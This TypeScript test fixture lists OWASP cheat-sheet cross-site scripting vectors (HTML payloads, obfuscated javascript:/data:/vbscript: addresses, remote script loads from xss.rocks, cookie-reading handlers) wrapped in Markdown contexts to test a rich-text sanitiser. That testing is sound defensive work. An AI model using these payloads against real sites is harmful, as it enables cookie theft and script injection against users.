/**
 * Cross-site scripting payloads, for the rich-text tests
 * (tests/unit/rich-text-xss.test.ts, tests/e2e/rich-text.spec.ts).
 *
 * Source: OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet"
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
 * github.com/OWASP/CheatSheetSeries cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md),
 * itself based on RSnake's XSS cheat sheet: its vectors as published (the
 * tab, newline and null vectors with the control characters written as
 * escapes), grouped by where they strike. A few link-address variants of
 * the same vectors follow them (entity and whitespace obfuscations of
 * javascript:, data: and vbscript:, protocol-relative addresses).
 */

/** Vectors that are HTML: they must never become elements or attributes. */
export const htmlVectors: readonly string[] = [
  "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
  "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  "<a onmouseover=alert(document.cookie)>xxs link</a>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC= onmouseover=\"alert('xxs')\">",
  "<IMG onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  '<IMG SRC=java\0script:alert("XSS")>',
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
  "<SCRIPT SRC=//xss.rocks/.j>",
  "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
  "<iframe src=http://xss.rocks/scriptlet.html <",
  "\\\";alert('XSS');//",
  "</script><script>alert('XSS');</script>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<IMG DYNSRC=\"javascript:alert('XSS')\">",
  "<IMG LOWSRC=\"javascript:alert('XSS')\">",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
  '<IMG SRC="livescript:[code]">',
  "<svg/onload=alert('XSS')>",
  "Set.constructor`alert\\x28document.domain\\x29",
  "<BODY ONLOAD=alert('XSS')>",
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<a href=\"javascript:alert('XSS')\">click</a>",
  "<details open ontoggle=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

/**
 * Vectors that are addresses: as a link's or an image's address (or a
 * reference definition's), each must be refused by the check with a
 * message, and never rendered as a link or an image.
 */
export const addressVectors: readonly string[] = [
  "javascript:alert('XSS')",
  "JaVaScRiPt:alert('XSS')",
  "javascript:alert(String.fromCharCode(88,83,83))",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29",
  "&#x6A;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "&Tab;javascript:alert(1)",
  "jav\tascript:alert('XSS');",
  "jav&#x09;ascript:alert('XSS');",
  "jav&#x0A;ascript:alert('XSS');",
  "jav&#x0D;ascript:alert('XSS');",
  'java\0script:alert("XSS")',
  " &#14;  javascript:alert('XSS');",
  "\u0001javascript:alert(1)",
  'vbscript:msgbox("XSS")',
  "VBSCRIPT:msgbox(1)",
  "livescript:[code]",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
  "data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
  "DATA:text/html,<script>alert(1)</script>",
  "//xss.rocks/xss.js",
  "\\\\xss.rocks/xss.js",
  "/\\xss.rocks/xss.js",
  "/%5Cxss.rocks/xss.js",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
];

/** The ways a vector goes into Markdown: raw, in a link's address or text, an image, a table cell, code… */
export const markdownContexts: Readonly<Record<string, (vector: string) => string>> = {
  raw: (v) => v,
  "link address": (v) => `[click](${v})`,
  "link address in <>": (v) => `[click](<${v}>)`,
  "image address": (v) => `![a picture](${v})`,
  "image address in <>": (v) => `![a picture](<${v}>)`,
  "reference definition": (v) => `[click][x]\n\n[x]: <${v}>`,
  autolink: (v) => `<${v}>`,
  "link text": (v) => `[${v}](/training)`,
  "image alt text": (v) => `![${v}](/media/picture.webp)`,
  "link title": (v) => `[click](/training "${v}")`,
  heading: (v) => `## ${v}`,
  "table cell": (v) => `| Vector | Note |\n| --- | --- |\n| ${v} | a cell |`,
  "inline code": (v) => `Code: \`${v}\``,
  "fenced code": (v) => `\`\`\`${v}\n${v}\n\`\`\``,
  quote: (v) => `> ${v}`,
  "list item": (v) => `- ${v}`,
};
